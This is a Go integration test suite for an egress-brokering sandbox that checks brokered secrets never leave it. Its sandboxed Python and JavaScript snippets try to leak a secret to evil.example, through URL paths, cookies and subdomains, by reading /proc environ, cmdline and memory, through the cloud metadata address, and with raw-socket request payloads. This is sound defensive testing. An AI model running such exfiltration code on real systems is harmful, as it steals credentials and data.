package main

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sallyport/audit"
	"sallyport/egress/egresstest"
	"sallyport/sandbox/sandboxtest"
	"sallyport/telemetry/telemetrytest"
)

const brokeredValue = "the-real-value-0123456789"

// outWorld is a host on loopback that programs may reach, and one that they may
// not.
type outWorld struct {
	dir, port   string
	plain       string // port without TLS
	seen, other atomic.Int64
	withSecret  atomic.Int64 // requests that had the value in the right place
}

func newOutWorld(t testing.TB, runtime string) *outWorld {
	w := &outWorld{dir: sandboxtest.ShortDir(t)}
	host := http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.Host, "example.com:") { // as the proxy writes it, whatever the program wrote
			w.seen.Add(1)
		} else {
			w.other.Add(1)
		}
		if r.Header.Get("Authorization") == "Bearer "+brokeredValue {
			w.withSecret.Add(1)
		}
		if size, ok := strings.CutPrefix(r.URL.Path, "/v1/bytes/"); ok {
			n, _ := strconv.Atoi(size)
			_, _ = out.Write(make([]byte, n))
			return
		}
		if r.URL.Path == "/v1/more" {
			sayMore(out, r.Header.Get("Authorization"))
			return
		}
		fmt.Fprintln(out, "hello", r.URL.Path, r.Header)
	})
	s, plain := httptest.NewTLSServer(host), httptest.NewServer(host)
	t.Cleanup(s.Close)
	t.Cleanup(plain.Close)
	_, w.port, _ = net.SplitHostPort(s.Listener.Addr().String())
	_, w.plain, _ = net.SplitHostPort(plain.Listener.Addr().String())
	for name, text := range map[string][]byte{
		"ca.pem": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw}),
		"sallyport.yaml": fmt.Appendf(nil, `policy: {runtime: %s, overrides: {network: warn, network-socket: warn, egress-host: warn, introspection: warn, file-outside: warn, environment: warn}}
limits: {timeout: 10m, cpu: 10m}
environments:
  default:
    egress:
      allow: [{name: api, host: example.com, ports: [%s, %s], methods: [GET, POST], paths: [/v1/*], addresses: [127.0.0.1]}]
      ca: ca.pem
    secrets: {KEY: {env: REAL_KEY, broker: {rule: api}}}
  closed: {}
`, runtime, w.port, w.plain),
	} {
		if err := os.WriteFile(filepath.Join(w.dir, name), text, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return w
}

// sayMore answers, and goes on with what nobody asked for.
func sayMore(out http.ResponseWriter, text string) {
	c, _, err := out.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer c.Close()
	fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nX: %s\r\n\r\n", text)
	_, _ = io.Copy(io.Discard, c)
}

// run runs a program and returns everything that comes out.
func (w *outWorld) run(t *testing.T, name, code string, flags ...string) (int, string) {
	t.Helper()
	path := filepath.Join(w.dir, name)
	if err := os.WriteFile(path, []byte(strings.ReplaceAll(code, "PORT", w.port)), 0o600); err != nil {
		t.Fatal(err)
	}
	status, out := w.invoke(append(append([]string{"run"}, flags...), path)...)
	if strings.Contains(out, brokeredValue) {
		t.Errorf("%s gave the value away:\n%s", name, out)
	}
	return status, out
}

// configure says another thing in the configuration in place of what it says.
func (w *outWorld) configure(t testing.TB, old, other string) {
	t.Helper()
	path := filepath.Join(w.dir, "sallyport.yaml")
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(text, []byte(old)) {
		t.Fatalf("the configuration does not say %q", old)
	}
	if err := os.WriteFile(path, bytes.Replace(text, []byte(old), []byte(other), 1), 0o600); err != nil {
		t.Fatal(err)
	}
}

func (w *outWorld) invoke(args ...string) (int, string) {
	var out together
	env := map[string]string{"HOME": w.dir, "XDG_STATE_HOME": w.dir, "PATH": os.Getenv("PATH"), "REAL_KEY": brokeredValue}
	root := rootCommand(newApp(strings.NewReader(""), &outWriter{w: &out}, &out, func(name string) (string, bool) { v, ok := env[name]; return v, ok }))
	root.SetArgs(append([]string{"--config", filepath.Join(w.dir, "sallyport.yaml")}, args...))
	err := root.ExecuteContext(context.Background())
	if err != nil {
		fmt.Fprintln(&out, err)
	}
	return exitCode(err), out.String()
}

// together is where programs and sallyport write at the same time.
type together struct {
	mu sync.Mutex
	bytes.Buffer
}

func (b *together) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.Buffer.Write(p)
}

const pythonGet = `
import os, urllib.request, urllib.error
def get(url, data=None, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers, data=data), timeout=300) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
KEY = os.environ["KEY"]
`

const requestRules = `package sallyport.requests.own

# METADATA
# title: Not this path
# custom: {id: own/path}
deny contains {"rule": "own/path", "message": "no"} if input.egress.path == "/v1/denied"

# METADATA
# title: Sends something
# custom: {id: own/post}
ask contains {"rule": "own/post", "message": "no"} if input.egress.method == "POST"
`

// TestEgress takes programs through all of it: configuration, both doors, the
// proxy, the log.
func TestEgress(t *testing.T) {
	t.Parallel()
	if !requireRunsc(t) {
		t.Skip("no runsc")
	}
	w := newOutWorld(t, "stop")
	if status, out := w.invoke("config", "check"); status != 0 {
		t.Fatalf("config check: %d %s", status, out)
	}
	status, out := w.run(t, "a.py", pythonGet+`
print(get("https://example.com:PORT/v1/x"))
print(get("https://example.com:PORT/v1/x", Authorization="Bearer " + KEY))
print(get("https://example.com:PORT/admin"))
print(get("https://evil.example:PORT/v1/x"))
print(get("http://169.254.169.254/latest"))
`, "--verbose")
	if status != 0 || w.seen.Load() != 2 || w.other.Load() != 0 || w.withSecret.Load() != 1 {
		t.Errorf("%d, %d requests, %d with the secret:\n%s", status, w.seen.Load(), w.withSecret.Load(), out)
	}
	for _, want := range []string{
		"sallyport: request 2: GET https://example.com:" + w.port + "/v1/x: status 200, 0 bytes sent, ", " by rule api\n",
		"sallyport: request 4: GET https://evil.example:" + w.port + "/v1/x: refused, host is not allowed\n",
		"(200, 'hello /v1/x", `"reason":"path is not allowed"`, `"reason":"host is not allowed"`, "GET,HEAD", "Bearer sallyport-",
		"GET https://evil.example:" + w.port + "/…: host is not allowed", "GET http://169.254.169.254/…: host is not allowed",
	} {
		if want == "GET,HEAD" {
			want = "GET,POST example.com:" + w.port + "," + w.plain + " /v1/*"
		}
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	status, out = w.run(t, "a.mjs", `
const r = await fetch("https://example.com:PORT/v1/x", {headers: {authorization: "Bearer " + process.env.KEY}}); console.log(r.status);
const q = await fetch("https://evil.example/"); console.log(q.status);
`)
	if status != 0 || !strings.Contains(out, "200\n403\n") || strings.Contains(out, "socket(") || w.withSecret.Load() != 2 {
		t.Errorf("%d %s", status, out)
	}

	// Rules about requests tighten what egress allows; nobody is there to ask.
	rules := filepath.Join(w.dir, "rules")
	if err := os.Mkdir(rules, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(rules, "r.rego"), []byte(requestRules), 0o600); err != nil {
		t.Fatal(err)
	}
	status, out = w.run(t, "r.py", pythonGet+`
print(get("https://example.com:PORT/v1/x"))
print(get("https://example.com:PORT/v1/denied"))
print(get("https://example.com:PORT/v1/x", data=b"x"))
`, "--policy", rules)
	if status != 0 || w.seen.Load() != 4 || !strings.Contains(out, `"reason":"rule own/path, Not this path"`) ||
		!strings.Contains(out, `"reason":"rule own/post, Sends something: nobody approved it"`) {
		t.Errorf("%d %s", status, out)
	}

	if status, out := w.invoke("audit", "verify"); status != 0 {
		t.Errorf("audit verify: %d %s", status, out)
	}
	_, out = w.invoke("audit", "tail", "-n", "50")
	out = strings.Join(strings.Fields(out), " ")
	for _, want := range []string{"egress 2 GET https://example.com:" + w.port, "egress_end 2 GET https://example.com:" + w.port + " status 200", "refused: host is not allowed"} {
		if !strings.Contains(out, want) {
			t.Errorf("audit tail has no %q:\n%s", want, out)
		}
	}
	if _, out = w.invoke("audit", "stats"); !strings.Contains(out, "10 requests to hosts, 6 refused, 0 bytes sent") || !strings.Contains(out, "example.com") {
		t.Errorf("audit stats: %s", out)
	}
	// Without egress, and where policy denies the network, there is none.
	if _, out := w.run(t, "b.py", "import socket\nsocket.create_connection(('example.com', 1))\n", "--environment", "closed"); w.seen.Load() != 4 || !strings.Contains(out, "socket.getaddrinfo") {
		t.Error(out)
	}
	if _, out := w.run(t, "b.py", "import socket\nsocket.create_connection(('example.com', 1))\n", "--pack", "strict"); !strings.Contains(out, "deny") && !strings.Contains(out, "denied") {
		t.Error(out)
	}
	w.nothingKept(t)
}

// TestOpaque has a program speak TLS with a host itself: it trusts whom this
// machine trusts for it, the log says that nobody looked, and rules about
// requests see what can be seen.
// TestHostsThatSayMore: what net/http has to say of a host is in the host's words, and
// nobody hears it.
func TestHostsThatSayMore(t *testing.T) {
	t.Parallel()
	if !requireRunsc(t) {
		t.Skip("no runsc")
	}
	w := newOutWorld(t, "stop")
	program := filepath.Join(w.dir, "a.py")
	if err := os.WriteFile(program, []byte(strings.ReplaceAll(pythonGet+`
import time
print(get("https://example.com:PORT/v1/more", Authorization="Bearer " + KEY))
time.sleep(1)
`, "PORT", w.port)), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("sallyport", "--config", filepath.Join(w.dir, "sallyport.yaml"), "run", program)
	cmd.Env = []string{"HOME=" + w.dir, "XDG_STATE_HOME=" + w.dir, "PATH=" + os.Getenv("PATH"), "REAL_KEY=" + brokeredValue}
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "(200, 'ok')\n") || strings.Contains(string(out), brokeredValue) || strings.Contains(string(out), "HTTP/1.1") {
		t.Errorf("%v\n%s", err, out)
	}
}

func TestOpaque(t *testing.T) {
	t.Parallel()
	if !requireRunsc(t) {
		t.Skip("no runsc")
	}
	w := newOutWorld(t, "stop")
	w.configure(t, "allow: [", "allow: [{name: unseen, host: unseen.example.com, ports: ["+w.port+"], opaque: true, addresses: [127.0.0.1]}, ")
	rules := filepath.Join(w.dir, "rules")
	own := strings.ReplaceAll(requestRules, `input.egress.path == "/v1/denied"`, `{input.egress.method == "CONNECT"; input.egress.nth > 1}`)
	if err := errors.Join(os.Mkdir(rules, 0o700), os.WriteFile(filepath.Join(rules, "r.rego"), []byte(own), 0o600)); err != nil {
		t.Fatal(err)
	}
	status, out := w.run(t, "a.py", pythonGet+`
print(get("https://unseen.example.com:PORT/v2/x", Authorization=KEY))
try:
    get("https://unseen.example.com:PORT/v2/x")
except OSError as e:
    print(e)
`, "--verbose", "--policy", rules)
	for _, want := range []string{
		"(200, 'hello /v2/x", "access denied", "request 1: CONNECT tls://unseen.example.com:" + w.port + ": ", " by rule unseen\n",
		"CONNECT tls://unseen.example.com:" + w.port + ": rule own/path, Not this path",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	if status != 0 || w.other.Load() != 1 || w.withSecret.Load() != 0 {
		t.Errorf("%d, %d requests:\n%s", status, w.other.Load(), out)
	}
	if _, out := w.invoke("audit", "tail"); !strings.Contains(out, "CONNECT  tls://unseen.example.com:"+w.port) {
		t.Error(out)
	}
	if _, out := w.invoke("explain", "--request", "CONNECT tls://unseen.example.com:"+w.port, filepath.Join(w.dir, "a.py")); !strings.Contains(out, "allowed by rule unseen of egress.allow") {
		t.Error(out)
	}
	w.nothingKept(t)
}

// TestDoorOneKnowsEgress holds what baseline and strict make of egress before
// anything runs: clients of HTTP pass, sockets do not, nor does a host that
// stands in the program and is not allowed.
func TestDoorOneKnowsEgress(t *testing.T) {
	t.Parallel()
	w := newOutWorld(t, "stop")
	path := filepath.Join(w.dir, "sallyport.yaml")
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	plain := regexp.MustCompile(`(?m)^policy: .*\n`).ReplaceAllString(string(text), "")
	if err := os.WriteFile(path, []byte(plain), 0o600); err != nil {
		t.Fatal(err)
	}
	const client = "import urllib.request\nurllib.request.urlopen("
	for _, tt := range []struct {
		name, code, pack string
		status           int
		want             string
	}{
		{"a.py", client + "'https://example.com:PORT/v1/x')", "baseline", 0, ""},
		{"a.py", client + "'https://example.com:PORT/v1/x')", "strict", 0, ""},
		{"a.py", client + "'https://evil.example/')", "baseline", 3, "urllib.request.urlopen asks evil.example, which is not allowed; allowed: example.com"},
		{"a.py", client + "f'https://evil.example/{input()}')", "baseline", 3, "a.py:2:1"},
		{"a.py", client + "input())", "baseline", 0, ""},
		{"a.py", client + "input())", "strict", 3, "the host is not a constant"},
		{"a.py", "import socket\nsocket.create_connection(('example.com', 1))", "baseline", 3, "only HTTP can be let out"},
		{"a.mjs", "await fetch('https://example.com/')", "strict", 0, ""},
		{"a.mjs", "await fetch('https://evil.example/')", "baseline", 3, "egress-host"},
		{"a.mjs", "import net from 'node:net'; net.connect(1, 'example.com')", "baseline", 3, "only HTTP can be let out"},
	} {
		name := filepath.Join(w.dir, tt.name)
		if err := os.WriteFile(name, []byte(strings.ReplaceAll(tt.code, "PORT", w.port)+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		status, out := w.invoke("check", "--pack", tt.pack, name)
		if status != tt.status || !strings.Contains(out, tt.want) {
			t.Errorf("%s under %s: %d, want %d and %q:\n%s", tt.code, tt.pack, status, tt.status, tt.want, out)
		}
	}
}

// backends are where attacks are made: each has an environment's programs run by
// one, or says "" for what it lacks.
var backends = map[string]func(t *testing.T) (sandbox string, missing string){
	"gvisor": func(t *testing.T) (string, string) {
		if !requireRunsc(t) {
			return "", "no runsc"
		}
		return "", ""
	},
	"oci": func(t *testing.T) (string, string) {
		guest := requireOCI(t)
		if guest == "" {
			return "", "no runc"
		}
		return fmt.Sprintf("sandbox: {backend: oci, engine: {guest: %s}}\n", guest), ""
	},
	"docker": func(t *testing.T) (string, string) {
		guest, err := exec.LookPath("sallyport-guest")
		engine := os.Getenv("TEST_DOCKER_HOST")
		if err != nil || engine == "" {
			if os.Getenv("REQUIRE_DOCKER") != "" {
				t.Fatal("REQUIRE_DOCKER is set: no TEST_DOCKER_HOST, or no sallyport-guest: make build, .ci/services start")
			}
			return "", "no engine"
		}
		return fmt.Sprintf("sandbox: {backend: docker, engine: {guest: %s, host: %q, images: {python: \"sallyport/python:test\"}}}\n", guest, engine), ""
	},
}

// onEach runs a test on every backend that is there.
func onEach(t *testing.T, test func(t *testing.T, backend string, world func(runtime string) *outWorld)) {
	t.Parallel()
	for backend, configure := range backends {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			sandbox, missing := configure(t)
			if missing != "" {
				t.Skip(missing)
			}
			test(t, backend, func(runtime string) *outWorld {
				w := newOutWorld(t, runtime)
				w.configure(t, "environments:", sandbox+"environments:")
				return w
			})
		})
	}
}

// TestBrokeredSecretStaysOutside has programs that were told to give the secret
// away, in every way that they have.
func TestBrokeredSecretStaysOutside(t *testing.T) { onEach(t, brokeredSecretStaysOutside) }

func brokeredSecretStaysOutside(t *testing.T, _ string, world func(runtime string) *outWorld) {
	w := world("observe") // every try is to be made to its end
	collector := telemetrytest.New(t)
	w.configure(t, "policy: {", fmt.Sprintf("telemetry: {otlp: {endpoint: %q}}\npolicy: {", collector.URL))
	api := `"https://example.com:PORT/v1/x"`
	searching := "get(" + api + ", Authorization='Bearer ' + KEY)\n" + memorySearch
	for name, tt := range map[string]struct {
		code string
		sent int64 // requests that may have the value
	}{
		"memory":    {searching, 1},
		"exception": {`raise ValueError(KEY)`, 0},
		"file":      {`open("leak", "w").write(KEY)`, 0},
		"echo":      {`print(get(` + api + `, Authorization="Bearer " + KEY))`, 1},
		"packed":    {`print(get(` + api + `, **{"Authorization": "Bearer " + KEY, "Accept-Encoding": "gzip"}))`, 1},
		"one by one": {oneByOne(
			`print(KEY, KEY[::-1], KEY.encode().hex())`,
			`print(dict(os.environ), open("/proc/self/environ").read())`,
			`print([open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()])`,
			`print(get("https://evil.example:PORT/v1/x", Authorization="Bearer " + KEY))`,
			`print(get(`+api+`, Cookie=KEY))`,
			`print(get("https://example.com:PORT/v1/" + KEY))`,
			`print(get(`+api+` + "?k=" + KEY))`,
			`print(get(`+api+`, data=KEY.encode()))`,
			`print(get("http://example.com:PORT/v1/x", Authorization="Bearer " + KEY))`,
			`print(get(`+api+`, Authorization="Bearer " + KEY, Range="bytes=0-3"))`,
			`print(get("https://example.com:PORT/v2/x", Authorization="Bearer " + KEY))`,
			`print(get("https://" + KEY + "@169.254.169.254/"))`,
			`print(get("https://" + KEY + ".evil.example/"))`,
			"c = socket.create_connection(('example.com', PORT))\nc.sendall(('GET /v1/x HTTP/1.1\\r\\nHost: example.com\\r\\nAuthorization: Bearer ' + KEY + '\\r\\n\\r\\n').encode())\nprint(c.recv(9999))",
			"c = socket.create_connection(('example.com', PORT))\nc.sendall(KEY.encode() + b'\\r\\n\\r\\n')\nprint(c.recv(9999))",
		), 0},
	} {
		before := w.withSecret.Load()
		_, out := w.run(t, "leak.py", pythonGet+tt.code+"\n")
		if got := w.withSecret.Load() - before; got != tt.sent {
			t.Errorf("%s: %d requests with the value, want %d:\n%s", name, got, tt.sent, out)
		}
		if name == "memory" && !strings.Contains(out, "found 0\ncontrol True") {
			t.Errorf("in memory: %s", out)
		}
		if name == "one by one" && !strings.Contains(out, "\nthe end\n") {
			t.Errorf("not all was tried: %s", out)
		}
	}
	if w.other.Load() > 0 {
		t.Error("another host was reached")
	}
	if told := collector.Raw(); bytes.Contains(told, []byte(brokeredValue)) || !bytes.Contains(told, []byte("sallyport.egress.requests")) {
		t.Errorf("%d bytes of telemetry have the value, or nothing of requests", len(told))
	}
	w.nothingKept(t)

	w = world("stop")
	w.fromVault(t)
	if status, out := w.run(t, "leak.py", pythonGet+searching); status != 4 || !strings.Contains(out, "native: open.memory") || strings.Contains(out, "found ") {
		t.Errorf("where policy stops it, searching the memory ended with %d:\n%s", status, out)
	}
	w.nothingKept(t)
}

// oneByOne is a program that makes tries of which each may fail: most of what
// one takes is the start of its sandbox.
func oneByOne(tries ...string) string {
	program := "import socket\n"
	for _, try := range tries {
		program += fmt.Sprintf("print('try', %q)\ntry:\n    %s\nexcept Exception as e:\n    print(repr(e))\n", try[:20], strings.ReplaceAll(try, "\n", "\n    "))
	}
	return program + "print('the end')"
}

// fromVault has a command print the secret.
func (w *outWorld) fromVault(t *testing.T) {
	t.Helper()
	vault := filepath.Join(t.TempDir(), "vault")
	w.configure(t, "{env: REAL_KEY,", "{exec: [cat, "+vault+"],")
	if err := os.WriteFile(vault, []byte(brokeredValue+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
}

// attackers send each of the attacks over a connection of its own, from inside
// of a sandbox, and print the codes that come back.
var attackers = map[string]string{
	"attack.py": `
import json, re, socket, ssl
for a in json.loads(ATTACKS):
    got = b""
    try:
        c = socket.create_connection(("example.com", PORT if a["tls"] else PLAIN), 300)
        if a["tls"]:
            t = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT) if a["lone"] else ssl.create_default_context()
            t.check_hostname = t.check_hostname and a["sni"] != "-"
            if a["alpn"]:
                t.set_alpn_protocols([a["alpn"]])
            c = t.wrap_socket(c, server_hostname=None if a["sni"] == "-" else a["sni"] or "example.com")
        c.sendall(bytes.fromhex(a["hex"]))
        while b"\0\0\x08\x07" not in got and (more := c.recv(65536)):  # HTTP/2 says with this that it ends
            got += more
    except OSError:
        pass
    print(json.dumps([a["name"], re.findall(r"HTTP/1\.[01] (\d{3})", got.decode("latin-1"))]))
`,
	"attack.mjs": `
import net from "net";
import tls from "tls";
for (const a of JSON.parse(ATTACKS)) {
  let got = "";
  await new Promise((done) => {
    const to = { host: "example.com", port: a.tls ? PORT : PLAIN, servername: a.sni === "-" ? "" : a.sni || "example.com" };
    if (a.alpn) to.ALPNProtocols = [a.alpn];
    if (a.lone) to.ca = [];
    const c = a.tls ? tls.connect(to) : net.connect(to);
    c.on(a.tls ? "secureConnect" : "connect", () => c.write(Buffer.from(a.hex, "hex")));
    c.on("data", (more) => {
      got += more.toString("latin1");
      if (got.includes("\0\0\b\x07")) c.destroy();
    });
    c.on("error", () => {});
    c.on("close", done);
  });
  console.log(JSON.stringify([a.name, [...got.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((m) => m[1])]));
}
`,
}

// TestAttacksFromInside makes the attacks of package egress with programs that
// were run, in both languages.
func TestAttacksFromInside(t *testing.T) {
	t.Parallel()
	if !requireRunsc(t) {
		t.Skip("no runsc")
	}
	attacks, err := egresstest.Attacks("example.com")
	if err != nil {
		t.Fatal(err)
	}
	var given []map[string]any
	var most int64
	reasons := map[string]int{} // that are to be on record, and how often
	for _, a := range attacks {
		most += a.Hits
		if a.Reason != "" {
			reasons[a.Reason]++
		}
		given = append(given, map[string]any{"name": a.Name, "tls": a.TLS, "sni": a.SNI, "alpn": a.ALPN, "lone": a.Lone, "hex": hex.EncodeToString(a.Send)})
	}
	data, err := json.Marshal(given)
	if err != nil {
		t.Fatal(err)
	}
	literal, err := json.Marshal(string(data)) // a string of both languages
	if err != nil {
		t.Fatal(err)
	}
	for name, code := range attackers {
		t.Run(name, func(t *testing.T) {
			w := newOutWorld(t, "stop")
			code := strings.ReplaceAll(strings.ReplaceAll(code, "PLAIN", w.plain), "ATTACKS", string(literal))
			status, out := w.run(t, name, code)
			answers := map[string]string{}
			for line := range strings.Lines(out) {
				var answer []any
				if json.Unmarshal([]byte(line), &answer) == nil && len(answer) == 2 {
					answers[fmt.Sprint(answer[0])] = strings.Trim(strings.ReplaceAll(fmt.Sprint(answer[1]), " ", ","), "[]")
				}
			}
			if status != 0 || len(answers) != len(attacks) {
				t.Fatalf("%d, %d of %d attacks:\n%s", status, len(answers), len(attacks), out)
			}
			for _, a := range attacks {
				got := answers[a.Name]
				if got == "" {
					got = "closed"
				}
				if !slices.Contains(strings.Split(a.Want, "|"), got) {
					t.Errorf("%s: %s, want %s", a.Name, got, a.Want)
				}
			}
			if w.other.Load() > 0 || w.seen.Load() > most {
				t.Errorf("%d requests arrived, %d at another host; %d may", w.seen.Load(), w.other.Load(), most)
			}
			recorded := w.refusals(t)
			for reason, n := range reasons {
				if recorded[reason] < n {
					t.Errorf("%q is on record %d times, want %d", reason, recorded[reason], n)
				}
			}
		})
	}
}

// refusals counts the requests on record that were refused, by reason.
func (w *outWorld) refusals(t *testing.T) map[string]int {
	t.Helper()
	counts := map[string]int{}
	_, out := w.invoke("audit", "export", "--format", "jsonl")
	for line := range strings.Lines(out) {
		var rec audit.Record
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if rec.Event == audit.EventEgress && !rec.Egress.Allowed {
			counts[rec.Egress.Reason]++
		}
	}
	return counts
}

// TestLimitsFromInside has a program go over each limit of its requests, and before
// that connect twice from one port where that is gVisor's.
func TestLimitsFromInside(t *testing.T) { onEach(t, limitsFromInside) }

func limitsFromInside(t *testing.T, backend string, world func(runtime string) *outWorld) {
	w := world("stop")
	twice := 0
	if backend == "gvisor" { // Linux keeps the port for a minute
		twice = 2
	}
	w.configure(t, "      ca:", "      limits: {requests: 200, connections: 2, sent_mb: 1, received_mb: 1}\n      ca:")
	status, out := w.run(t, "limits.py", strings.NewReplacer("TWICE", strconv.Itoa(twice), "PLAIN", w.plain).Replace(`
import errno, socket, time
def ask(head="GET /v1/x", end="Connection: close\r\n"):
    c, got = None, b""
    try:
        c = socket.create_connection(("example.com", PLAIN), 300)
        c.sendall(f"{head} HTTP/1.1\r\nHost: example.com\r\n{end}\r\n".encode())
        while b"\r\n\r\n" not in got or end and b"limit" not in got:
            more = c.recv(65536)
            if not more:
                break
            got += more
    except OSError:
        pass
    return c, got.decode("latin-1")
def over(limit):
    while True:
        text = ask()[1]
        if limit != "connections" and "limit of connections" in text:
            time.sleep(0.1)  # until those before are closed
        elif "429" in text.split("\r\n")[0]:
            print(limit, "limit of " + limit in text)
            return
for _ in range(TWICE):
    c = None
    while not c:
        try:
            c = socket.create_connection(("example.com", PLAIN), 300, ("127.0.0.1", 40000))
        except OSError as e:
            if e.errno != errno.EADDRINUSE:
                raise
    c.sendall(b"GET /v1/x HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n")
    print("from one port", b"hello" in c.makefile("rb").read())
    c.close()
kept = [ask(end="")[0] for _ in range(2)]
over("connections")
for c in kept:
    c.close()
while "429" in ask()[1]:
    pass
ask("GET /v1/bytes/2000000")
over("received")
for _ in range(40):  # what is refused was sent, too
    ask(end="X: " + "x" * 30000 + "\r\nConnection: close\r\n")
over("sent")
for _ in range(180):
    ask()
over("requests")
`))
	if status != 0 || strings.Count(out, " True\n") != 4+twice || w.seen.Load() > 20 {
		t.Errorf("%d, %d requests:\n%s", status, w.seen.Load(), out)
	}
	recorded := w.refusals(t)
	for _, limit := range []string{"connections", "received", "sent", "requests"} {
		if n := recorded["over the run's limit of "+limit]; n != 1 {
			t.Errorf("%s is on record %d times", limit, n)
		}
	}
}

// TestLearn has rules proposed from a log, some of it hostile, and checks that
// they are a configuration.
func TestLearn(t *testing.T) {
	t.Parallel()
	w := newOutWorld(t, "stop")
	dir := t.TempDir()
	log, err := audit.Open(audit.Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	add := func(rec audit.Record) string {
		rec, err := log.Append(t.Context(), rec)
		if err != nil {
			t.Fatal(err)
		}
		return rec.ID
	}
	verdict := func(effect string, rules ...string) *audit.Verdict {
		v := &audit.Verdict{Effect: effect, Reason: "policy", Packs: []string{"baseline"}, Findings: []audit.Finding{}}
		for _, r := range rules {
			v.Findings = append(v.Findings, audit.Finding{Rule: r, Action: "deny"})
		}
		return v
	}
	source := &audit.Source{Language: "python", SHA256: strings.Repeat("ab", 32)}
	add(audit.Record{Event: audit.EventDecision, Source: source, Verdict: verdict("deny", "egress-host")})
	for _, environment := range []string{"", "data"} {
		id := add(audit.Record{Event: audit.EventDecision, Caller: audit.Caller{Environment: environment}, Source: source, Verdict: verdict("allow")})
		ask := func(method, host string, port int, path, reason string) {
			x := &audit.Egress{Number: 1, Method: method, Scheme: "https", Host: host, Port: port, Path: path, Reason: reason, Allowed: reason == ""}
			add(audit.Record{Event: audit.EventEgress, Decision: id, Caller: audit.Caller{Environment: environment}, Egress: x})
		}
		ask("GET", "api.weather.example", 443, "/v1/a", "")
		ask("GET", "api.weather.example", 443, "/v1/a", "")
		ask("POST", "api.weather.example", 443, "/v1/b", "method is not allowed")
		if environment == "" {
			continue
		}
		for i := range 12 {
			ask("GET", "files.example", 8443, fmt.Sprintf("/data/%d/x", i), "host is not allowed")
		}
		ask("GET", "odd.example", 443, "/public/*", "host is not allowed") // means more in a rule
		ask("GET", "odd.example", 443, "/public/\n- name: evil\u202e", "host is not allowed")
		ask("*GET", "odd.example", 443, "/public/x", "method is not allowed") // means another thing in YAML
		ask("GET", "169.254.169.254", 80, "/latest", "host is not allowed")
		ask("DELETE", "api.weather.example", 443, "/v1/a", "rule own/delete, Removes something")
		ask("", "api.weather.example", 443, "", "method is not allowed anywhere")
		ask("", "", 443, "", "TLS handshake failed")
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	const want = `# What programs asked of hosts: 25 requests. Nothing of this is in force.
# Programs chose these hosts and paths: take out what they are not to reach before it goes into sallyport.yaml.
# Left out, because a rule refused it, or no rule can let it through: 5 requests.
# Denied before they ran because of a host: 1 program. Look at them with: sallyport audit search --rule egress-host
environments:
  "data":
    egress:
      allow:
        # 3 requests in 1 run: 2 sent, 1 refused (method is not allowed 1)
        - name: "api-weather-example"
          host: "api.weather.example"
          methods: [GET, POST]
          paths: ["/v1/a", "/v1/b"]
        # 12 requests in 1 run: 0 sent, 12 refused (host is not allowed 12)
        - name: "files-example-8443"
          host: "files.example"
          ports: [8443]
          methods: [GET]
          # 12 paths asked for
          paths: ["/data/*"]
        # 2 requests in 1 run: 0 sent, 2 refused (host is not allowed 2)
        - name: "odd-example"
          host: "odd.example"
          methods: [GET]
          # 2 paths asked for
          paths: ["/public/*"]
  "default":
    egress:
      allow:
        # 3 requests in 1 run: 2 sent, 1 refused (method is not allowed 1)
        - name: "api-weather-example"
          host: "api.weather.example"
          methods: [GET, POST]
          paths: ["/v1/a", "/v1/b"]
`
	status, out := w.invoke("policy", "learn", "--dir", dir, "--since", "7d")
	if diff := cmp.Diff(want, out); status != 0 || diff != "" {
		t.Errorf("%d %s", status, diff)
	}
	if err := os.WriteFile(filepath.Join(w.dir, "sallyport.yaml"), []byte(out), 0o600); err != nil {
		t.Fatal(err)
	}
	if status, out := w.invoke("config", "check"); status != 0 {
		t.Errorf("what is proposed is no configuration: %s", out)
	}
	if _, out := w.invoke("policy", "learn", "--dir", dir, "--environment", "default"); strings.Contains(out, "files.example") || !strings.Contains(out, "api.weather.example") {
		t.Errorf("of one environment: %s", out)
	}
}

// memorySearch looks at all that the program's process has in memory, and then
// whether it would have found the value there. It looks for one half behind the
// other: the whole, once made, would be found where it was freed.
const memorySearch = `
def search(first=b"the-re", second=b"al-value"):
    found = 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            span, rights = line.split()[:2]
            begin, end = (int(x, 16) for x in span.split("-"))
            if "r" in rights and end - begin < 1 << 28:
                try:
                    mem.seek(begin)
                    text = mem.read(end - begin)
                except (OSError, ValueError, OverflowError):
                    continue
                at = text.find(first)
                while at >= 0:
                    found += text[at + 6:at + 14] == second
